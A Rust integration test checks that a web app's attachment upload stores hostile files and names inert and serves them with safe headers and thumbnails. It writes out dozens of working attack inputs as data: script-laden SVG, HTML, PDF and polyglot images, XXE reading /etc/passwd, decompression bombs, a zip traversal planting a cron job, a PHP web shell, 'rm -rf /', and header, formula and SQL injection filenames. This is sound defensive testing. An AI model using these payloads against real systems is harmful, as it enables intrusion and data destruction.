//! Files that want to be more than files. Each is taken in or refused, runs nothing, breaks nothing,
//! and is handed out as what it is: pixels, or bytes to keep.

use std::io::Write as _;

use axum::http::Method;
use flate2::{Compression, write::GzEncoder, write::ZlibEncoder};

use super::{content, escaped, png};
use crate::tasks::shop;

/// What a file must come back as.
#[derive(Clone, Copy, PartialEq, Debug)]
enum Comes {
    /// In place, as this image.
    As(&'static str),
    /// As bytes to keep.
    ToKeep,
}
use Comes::{As, ToKeep};

/// How its small picture ends.
#[derive(Clone, Copy, PartialEq, Debug)]
enum Picture {
    None,
    Ready,
    Failed,
}

struct Hostile {
    /// What it is, in words.
    about: &'static str,
    /// What the client calls it.
    name: String,
    /// What it must be called afterwards.
    called: String,
    /// What the client says it is.
    says: &'static str,
    bytes: Vec<u8>,
    comes: Comes,
    picture: Picture,
}

fn chunk(kind: &[u8; 4], data: &[u8]) -> Vec<u8> {
    let mut chunk = u32::try_from(data.len()).unwrap().to_be_bytes().to_vec();
    chunk.extend(kind);
    chunk.extend(data);
    let mut crc = flate2::Crc::new();
    crc.update(kind);
    crc.update(data);
    chunk.extend(crc.sum().to_be_bytes());
    chunk
}

fn zlib(data: &[u8]) -> Vec<u8> {
    let mut encoder = ZlibEncoder::new(Vec::new(), Compression::best());
    encoder.write_all(data).unwrap();
    encoder.finish().unwrap()
}

/// A PNG that says it is this large, with these chunks between its head and its end.
fn crafted_png(width: u32, height: u32, chunks: &[Vec<u8>]) -> Vec<u8> {
    let mut head = width.to_be_bytes().to_vec();
    head.extend(height.to_be_bytes());
    head.extend([8, 2, 0, 0, 0]);
    let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
    png.extend(chunk(b"IHDR", &head));
    chunks.iter().for_each(|c| png.extend(c));
    png.extend(chunk(b"IEND", b""));
    png
}

/// A stored zip of one entry with this name.
fn zip(name: &str, data: &[u8], claims: u32) -> Vec<u8> {
    let mut crc = flate2::Crc::new();
    crc.update(data);
    let size = u32::try_from(data.len()).unwrap();
    let mut common = Vec::new();
    for short in [20u16, 0, 0, 0, 0] {
        common.extend(short.to_le_bytes());
    }
    for long in [crc.sum(), size, claims] {
        common.extend(long.to_le_bytes());
    }
    common.extend(u16::try_from(name.len()).unwrap().to_le_bytes());
    common.extend(0u16.to_le_bytes());
    let mut zip = b"PK\x03\x04".to_vec();
    zip.extend(&common);
    zip.extend(name.as_bytes());
    zip.extend(data);
    let start = u32::try_from(zip.len()).unwrap();
    let mut directory = b"PK\x01\x02\x14\0".to_vec();
    directory.extend(&common);
    directory.extend([0; 10]);
    directory.extend(0u32.to_le_bytes());
    directory.extend(name.as_bytes());
    zip.extend(&directory);
    zip.extend(b"PK\x05\x06\0\0\0\0\x01\0\x01\0");
    zip.extend(u32::try_from(directory.len()).unwrap().to_le_bytes());
    zip.extend(start.to_le_bytes());
    zip.extend([0, 0]);
    zip
}

fn jpeg(width: u32, height: u32) -> Vec<u8> {
    let mut bytes = std::io::Cursor::new(Vec::new());
    image::RgbImage::new(width, height).write_to(&mut bytes, image::ImageFormat::Jpeg).unwrap();
    bytes.into_inner()
}

fn gif(width: u16, height: u16, rest: &[u8]) -> Vec<u8> {
    let mut gif = b"GIF89a".to_vec();
    gif.extend(width.to_le_bytes());
    gif.extend(height.to_le_bytes());
    gif.extend([0x80, 0, 0, 0, 0, 0, 255, 255, 255]);
    gif.extend(rest);
    gif
}

const SCRIPT: &str = "<script>alert(document.domain)</script>";

/// Documents that browsers run, under their own names, under others', and under lies about what they are.
fn documents() -> Vec<Hostile> {
    let svg = format!("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\">{SCRIPT}</svg>");
    let xhtml =
        format!("<?xml version=\"1.0\"?><html xmlns=\"http://www.w3.org/1999/xhtml\"><body>{SCRIPT}</body></html>");
    let utf16: Vec<u8> = [0xff, 0xfe].into_iter().chain(SCRIPT.bytes().flat_map(|b| [b, 0])).collect();
    let pdf = format!("%PDF-1.7\n{SCRIPT}\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n%%EOF");
    let list: Vec<(&'static str, &str, &'static str, Vec<u8>)> = vec![
        ("an SVG with a script", "x.svg", "image/svg+xml", svg.clone().into()),
        ("an SVG called a PNG", "x.png", "image/png", svg.clone().into()),
        ("an SVG behind a BOM and blanks", "x.svg", "image/svg+xml", format!("\u{feff}\n\n  {svg}").into()),
        ("an SVG with an entity bomb", "x.svg", "image/svg+xml",
         "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY a \"aaaaaaaa\"><!ENTITY b \"&a;&a;&a;&a;\">]><svg>&b;</svg>".into()),
        ("an SVG that names a file", "x.svg", "image/svg+xml",
         "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY f SYSTEM \"file:///etc/passwd\">]><svg><text>&f;</text></svg>".into()),
        ("a compressed SVG", "x.svgz", "image/svg+xml", {
            let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
            gzip.write_all(svg.as_bytes()).unwrap();
            gzip.finish().unwrap()
        }),
        ("HTML", "x.html", "text/html", format!("<!DOCTYPE html>{SCRIPT}").into()),
        ("HTML called a JPEG", "x.jpg", "image/jpeg", format!("<html>{SCRIPT}").into()),
        ("HTML without a name for its kind", "x", "text/html", SCRIPT.into()),
        ("HTML behind a comment", "x.txt", "text/plain", format!("<!--\n-->{SCRIPT}").into()),
        ("HTML behind a kilobyte of blanks", "x.gif", "image/gif", format!("{}{SCRIPT}", " ".repeat(1_500)).into()),
        ("HTML in UTF-16", "x.html", "text/html; charset=utf-16", utf16),
        ("HTML in UTF-7", "x.html", "text/html; charset=utf-7", "+ADw-script+AD4-alert(1)+ADw-/script+AD4-".into()),
        ("XHTML", "x.xhtml", "application/xhtml+xml", xhtml.clone().into()),
        ("XHTML called a WebP", "x.webp", "image/webp", xhtml.into()),
        ("XML with a stylesheet", "x.xml", "text/xml", "<?xml version=\"1.0\"?><?xml-stylesheet type=\"text/xsl\" href=\"#\"?><x/>".into()),
        ("an RSS feed", "x.rss", "application/rss+xml", format!("<rss><title>{SCRIPT}</title></rss>").into()),
        ("MathML", "x.mml", "application/mathml+xml", "<math href=\"javascript:alert(1)\">x</math>".into()),
        ("a script", "x.js", "text/javascript", "alert(document.domain)".into()),
        ("a module", "x.mjs", "text/javascript", "import('/api/v1/users/me')".into()),
        ("a service worker", "sw.js", "application/javascript", "self.addEventListener('fetch', () => {})".into()),
        ("a stylesheet", "x.css", "text/css", "@import url(//evil.example);".into()),
        ("a manifest", "x.webmanifest", "application/manifest+json", "{\"start_url\":\"/\"}".into()),
        ("a cache manifest", "x.appcache", "text/cache-manifest", "CACHE MANIFEST\n/".into()),
        ("a cross-domain policy", "crossdomain.xml", "text/x-cross-domain-policy", "<cross-domain-policy><allow-access-from domain=\"*\"/></cross-domain-policy>".into()),
        ("Flash", "x.swf", "application/x-shockwave-flash", b"FWS\x09\0\0\0\0".to_vec()),
        ("MHTML", "x.mht", "multipart/related", "MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n<script>1</script>".into()),
        ("a PDF with a script", "x.pdf", "application/pdf", pdf.clone().into()),
        ("a PDF that is HTML too", "x.html", "text/html", format!("{SCRIPT}\n{pdf}").into()),
        ("an HTA", "x.hta", "application/hta", format!("<hta:application/>{SCRIPT}").into()),
        ("a shortcut", "x.url", "application/internet-shortcut", "[InternetShortcut]\r\nURL=javascript:alert(1)".into()),
        ("WebAssembly", "x.wasm", "application/wasm", b"\0asm\x01\0\0\0".to_vec()),
        ("an ELF program", "x.png", "image/png", b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec()),
        ("a Windows program", "x.jpg", "image/jpeg", b"MZ\x90\0\x03\0\0\0This program cannot be run in DOS mode".to_vec()),
        ("a shell script", "x.sh", "text/x-shellscript", "#!/bin/sh\nrm -rf /".into()),
        ("PHP", "x.php", "application/x-php", "<?php system($_GET['c']); ?>".into()),
    ];
    let hostile = |(about, name, says, bytes): (&'static str, &str, &'static str, Vec<u8>)| Hostile {
        about,
        name: name.to_owned(),
        called: name.to_owned(),
        says,
        bytes,
        comes: ToKeep,
        picture: Picture::None,
    };
    list.into_iter().map(hostile).collect()
}

/// Images that are something else too, promise too much, or are broken.
fn images() -> Vec<Hostile> {
    let png = png(40, 30);
    let with = |bytes: &[u8], more: &[u8]| [bytes, more].concat();
    let text_chunk = |data: &[u8]| {
        // After the head: signature 8, chunk 25.
        [&png[..33], &chunk(b"tEXt", data), &png[33..]].concat()
    };
    let bomb_text = chunk(b"zTXt", &with(b"x\0\0", &zlib(&vec![0; 40 << 20])));
    let few = chunk(b"IDAT", &zlib(&[0; 100]));
    // 3,000 by 3,000 pixels of three bytes, each row with one more, all of it nothing.
    let much = chunk(b"IDAT", &zlib(&vec![0; 9_001 * 3_000]));
    let mut jpeg_comment = jpeg(40, 30);
    let script: Vec<u8> = [&[0xff, 0xfe, 0, 42][..], SCRIPT.as_bytes(), b"\0"].concat();
    jpeg_comment.splice(2..2, script);
    let frame = b"\x2c\0\0\0\0\x01\0\x01\0\0\x02\x02\x44\x01\0\x3b";
    let list: Vec<(&'static str, &str, Vec<u8>, Comes, Picture)> = vec![
        (
            "a GIF that is a script too",
            "x.gif",
            b"GIF89a/*\0\0\0\0\0*/=1;alert(document.domain)//".to_vec(),
            As("image/gif"),
            Picture::Failed,
        ),
        (
            "a GIF that is HTML too",
            "x.gif",
            with(&gif(1, 1, frame), SCRIPT.as_bytes()),
            As("image/gif"),
            Picture::Ready,
        ),
        (
            "a GIF that is HTML too, called so",
            "x.html",
            with(&gif(1, 1, frame), SCRIPT.as_bytes()),
            ToKeep,
            Picture::Ready,
        ),
        ("a GIF that promises 65,535 by 65,535", "x.gif", gif(65_535, 65_535, frame), As("image/gif"), Picture::Failed),
        (
            "a PNG with HTML in a text",
            "x.png",
            text_chunk(format!("Title\0{SCRIPT}").as_bytes()),
            As("image/png"),
            Picture::Ready,
        ),
        (
            "a PNG with HTML in a text, called so",
            "x.htm",
            text_chunk(format!("Title\0{SCRIPT}").as_bytes()),
            ToKeep,
            Picture::Ready,
        ),
        (
            "a PNG with a zip behind",
            "x.png",
            with(&png, &zip("a.class", b"\xca\xfe\xba\xbe", 4)),
            As("image/png"),
            Picture::Ready,
        ),
        (
            "a PNG that promises 60,000 by 60,000",
            "x.png",
            crafted_png(60_000, 60_000, std::slice::from_ref(&few)),
            As("image/png"),
            Picture::Failed,
        ),
        (
            "a PNG that promises 4 billion by 4 billion",
            "x.png",
            crafted_png(u32::MAX, u32::MAX, std::slice::from_ref(&few)),
            As("image/png"),
            Picture::Failed,
        ),
        (
            "a PNG of no pixels",
            "x.png",
            crafted_png(0, 0, std::slice::from_ref(&few)),
            As("image/png"),
            Picture::Failed,
        ),
        (
            "a PNG whose text unpacks to 40 MB",
            "x.png",
            crafted_png(2, 2, &[bomb_text, few.clone()]),
            As("image/png"),
            Picture::Ready,
        ),
        (
            "a PNG whose pixels unpack to 27 MB",
            "x.png",
            crafted_png(3_000, 3_000, std::slice::from_ref(&much)),
            As("image/png"),
            Picture::Ready,
        ),
        (
            "a PNG that unpacks to more than it said",
            "x.png",
            crafted_png(2, 2, &[much]),
            As("image/png"),
            Picture::Ready,
        ),
        ("a PNG that is cut off", "x.png", png[..png.len() - 30].to_vec(), As("image/png"), Picture::Failed),
        ("a PNG of its first bytes alone", "x.png", png[..8].to_vec(), As("image/png"), Picture::Failed),
        ("a JPEG with HTML in a comment", "x.jpg", jpeg_comment, As("image/jpeg"), Picture::Ready),
        (
            "a JPEG that is a zip too",
            "x.jpg",
            with(&jpeg(8, 8), &zip("../../x", b"x", 1)),
            As("image/jpeg"),
            Picture::Ready,
        ),
        (
            "a JPEG of its first bytes alone",
            "x.jpg",
            b"\xff\xd8\xff\xe0\0\x10JFIF\0".to_vec(),
            As("image/jpeg"),
            Picture::Failed,
        ),
        (
            "a WebP of nothing",
            "x.webp",
            b"RIFF\xff\xff\xff\xffWEBPVP8L\xff\xff\xff\xff".to_vec(),
            As("image/webp"),
            Picture::Failed,
        ),
        ("a JPEG called a PNG", "x.png", jpeg(8, 8), ToKeep, Picture::Ready),
        ("a TIFF", "x.tiff", b"II*\0\x08\0\0\0\xff\xff\xff\xff".to_vec(), ToKeep, Picture::None),
        ("a BMP that promises much", "x.bmp", [b"BM".to_vec(), vec![0xff; 60]].concat(), ToKeep, Picture::None),
        ("an icon", "x.ico", b"\0\0\x01\0\xff\xff\0\0".to_vec(), ToKeep, Picture::None),
        ("an EPS", "x.eps", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) run".to_vec(), ToKeep, Picture::None),
        (
            "an ImageMagick script",
            "x.mvg",
            b"push graphic-context\nfill 'url(https://e.example/\"|id\")'".to_vec(),
            ToKeep,
            Picture::None,
        ),
        (
            "a zip whose names climb",
            "x.zip",
            zip("../../../../etc/cron.d/x", b"* * * * * root id", 17),
            ToKeep,
            Picture::None,
        ),
        ("a zip that claims 4 GB", "x.zip", zip("x", &[0; 64], u32::MAX), ToKeep, Picture::None),
        (
            "a gzip of 40 MB of nothing",
            "x.gz",
            {
                let mut gzip = GzEncoder::new(Vec::new(), Compression::best());
                gzip.write_all(&vec![0; 40 << 20]).unwrap();
                gzip.finish().unwrap()
            },
            ToKeep,
            Picture::None,
        ),
        (
            "bytes without sense",
            "x.png",
            (0..2_000u32).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8).collect(),
            ToKeep,
            Picture::None,
        ),
    ];
    let hostile = |(about, name, bytes, comes, picture): (&'static str, &str, Vec<u8>, Comes, Picture)| Hostile {
        about,
        name: name.to_owned(),
        called: name.to_owned(),
        says: "text/html",
        bytes,
        comes,
        picture,
    };
    list.into_iter().map(hostile).collect()
}

/// Names that mean something to a system, a header or an eye.
fn names() -> Vec<Hostile> {
    let long = "a".repeat(190);
    let list: Vec<(&'static str, &str, &str)> = vec![
        ("a path up", "../../etc/passwd", "passwd"),
        ("a path up for Windows", "..\\..\\windows\\win.ini", "win.ini"),
        ("an absolute path", "/etc/shadow", "shadow"),
        ("a drive", "C:\\boot.ini", "boot.ini"),
        ("a share", "\\\\evil.example\\share\\x.exe", "x.exe"),
        ("nothing but dots", "..", "file"),
        ("nothing but blanks", "   ", "file"),
        ("nothing but a slash", "/", "file"),
        ("a line break and a header", "x\r\nSet-Cookie: a=b.txt", "xSet-Cookie: a=b.txt"),
        ("a break of another kind", "x\u{2028}y\u{85}z.txt", "xyz.txt"),
        ("letters turned round", "invoice\u{202e}gpj.exe", "invoicegpj.exe"),
        ("letters isolated", "a\u{2066}b\u{2069}.txt", "ab.txt"),
        ("letters that cannot be seen", "a\u{200b}\u{feff}b.txt", "ab.txt"),
        ("a tag that cannot be seen", "a\u{e0041}b.txt", "ab.txt"),
        ("an escape of terminals", "\u{1b}[31mred.txt", "[31mred.txt"),
        ("a device", "con", "_con"),
        ("a device with an ending", "NUL.txt", "_NUL.txt"),
        ("a numbered device", "com1.log", "_com1.log"),
        ("an end that Windows drops", "run.exe. . .", "run.exe"),
        ("quotes", "a\"; filename=\"b.exe", "a\"; filename=\"b.exe"),
        ("a backslash at the end", "a.txt\\", "a.txt"),
        ("an escape of addresses", "%2e%2e%2fx.txt", "%2e%2e%2fx.txt"),
        ("markup", "<img src=x onerror=alert(1)>.png.txt", "<img src=x onerror=alert(1)>.png.txt"),
        ("a formula", "=cmd|' /C calc'!A0", "C calc'!A0"),
        ("SQL", "'); DROP TABLE attachments; --", "'); DROP TABLE attachments; --"),
        ("a parameter of a header", "x.txt; filename*=UTF-8''evil.exe", "x.txt; filename*=UTF-8''evil.exe"),
        ("other scripts", "報告書 отчёт.txt", "報告書 отчёт.txt"),
        ("a stream of NTFS", "x.txt:evil.exe", "x.txt:evil.exe"),
        ("a hidden file", ".htaccess", ".htaccess"),
        ("a long one", &long, &long),
    ];
    let hostile = |(about, name, called): (&'static str, &str, &str)| Hostile {
        about,
        name: name.to_owned(),
        called: called.to_owned(),
        says: "application/octet-stream",
        bytes: b"plain".to_vec(),
        comes: ToKeep,
        picture: Picture::None,
    };
    list.into_iter().map(hostile).collect()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn hostile_files_run_nothing_and_break_nothing() {
    let shop = shop().await;
    let task = shop.titled("Plane").await;
    let all: Vec<Hostile> = documents().into_iter().chain(images()).chain(names()).collect();
    assert!(all.len() >= 50, "only {} files are hostile", all.len());
    let mut made = Vec::new();
    for Hostile { about, name, says, bytes, called, .. } in &all {
        let path = format!("/tasks/{task}/attachments?name={}", escaped(name));
        let sent = shop.manager.request(Method::POST, path).bytes(says, bytes.clone()).send().await;
        assert_eq!(sent.status, 201, "{about}: {sent:?}");
        assert_eq!(sent["name"], called.as_str(), "{about}");
        made.push(sent.id());
    }
    shop.app.run_jobs().await;
    for (Hostile { about, name, called, bytes, comes, picture, .. }, id) in all.iter().zip(&made) {
        let got = content(&shop.viewer, id).await.expect(200);
        assert!(got.body == *bytes, "{about}: other bytes came back");
        let (kind, how) = match comes {
            As(kind) => (*kind, "inline"),
            ToKeep => ("application/octet-stream", "attachment"),
        };
        assert_eq!(got.header("content-type"), Some(kind), "{about}");
        for (header, value) in [
            ("x-content-type-options", "nosniff"),
            ("content-security-policy", "default-src 'none'; frame-ancestors 'none'; sandbox"),
            ("cross-origin-resource-policy", "same-origin"),
            ("x-frame-options", "DENY"),
        ] {
            assert_eq!(got.header(header), Some(value), "{about}: {header}");
        }
        assert!(got.header("set-cookie").is_none() && got.header("content-encoding").is_none(), "{about}");
        // The name is in the header twice, quoted and escaped, and adds nothing to it.
        let said = got.header("content-disposition").unwrap_or_else(|| panic!("{about}: {name:?} has no header"));
        let rest = said.strip_prefix(&format!("{how}; filename=\"")).unwrap_or_else(|| panic!("{about}: {said}"));
        let (plain, whole) = rest.split_once("\"; filename*=UTF-8''").unwrap_or_else(|| panic!("{about}: {said}"));
        assert!(plain.chars().all(|c| (' '..='~').contains(&c) && !"\"\\%/".contains(c)), "{about}: {said}");
        let decoded: Vec<u8> = decode(whole);
        assert_eq!(String::from_utf8(decoded).unwrap(), *called, "{about}");
        let now = shop.viewer.get(format!("/attachments/{id}")).await.expect(200);
        let wanted = match picture {
            Picture::None => "none",
            Picture::Ready => "ready",
            Picture::Failed => "failed",
        };
        assert_eq!(now["thumbnail"], wanted, "{about}: {now:?}");
        let small = shop.viewer.get(format!("/attachments/{id}/thumbnail")).await;
        if *picture != Picture::Ready {
            small.problem(404, "not-found");
            continue;
        }
        let small = small.expect(200);
        assert_eq!(small.header("content-type"), Some("image/jpeg"), "{about}");
        let small = small.body;
        assert!(small.starts_with(b"\xff\xd8\xff"), "{about}");
        assert!(
            !small.windows(7).any(|w| w.eq_ignore_ascii_case(b"<script")),
            "{about}: it got into the small picture"
        );
        let small = image::load_from_memory_with_format(&small, image::ImageFormat::Jpeg).unwrap();
        assert!(small.width() <= 480 && small.height() <= 480, "{about}");
    }
    // Names that are too long or no text at all are refused.
    for (name, status) in [("a".repeat(201), 400), ("a\0b".to_owned(), 400)] {
        let path = format!("/tasks/{task}/attachments?name={}", escaped(&name));
        let refused = shop.manager.request(Method::POST, path).bytes("text/plain", "x").send().await;
        refused.problem(status, "malformed");
    }
    let path = format!("/tasks/{task}/attachments?name=%ff%fe");
    shop.manager.request(Method::POST, path).bytes("text/plain", "x").send().await.problem(400, "malformed");
    println!("{} hostile files", all.len());
    shop.app.client().get("/health/ready").await.expect(200);
}

/// Undoes `%XX`.
fn decode(text: &str) -> Vec<u8> {
    let bytes = text.as_bytes();
    let mut decoded = Vec::new();
    let mut at = 0;
    while at < bytes.len() {
        if bytes[at] == b'%' {
            decoded.push(u8::from_str_radix(&text[at + 1..at + 3], 16).unwrap());
            at += 3;
        } else {
            decoded.push(bytes[at]);
            at += 1;
        }
    }
    decoded
}
